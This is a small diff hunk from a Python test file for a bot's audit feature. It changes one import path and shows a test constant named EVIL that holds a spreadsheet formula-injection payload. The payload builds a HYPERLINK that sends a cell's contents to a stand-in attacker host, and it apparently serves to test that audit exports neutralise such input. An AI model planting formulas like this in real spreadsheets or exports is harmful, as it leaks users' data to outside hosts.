@@ -13,7 +13,7 @@ from bot.keyboards.audit import AuditCb
 from bot.storage.models import AuditEntry, Member, Role
 from tests import seed
 from tests.harness import Harness, Person, Seen
-from tests.test_onboarding import make_invite, school
+from tests.worlds import make_invite, school
 
 ADMIN_NAME = "Смирнова Ольга Викторовна"
 EVIL = '=HYPERLINK("http://evil.example/?"&A3,"Смирнова Ольга")'
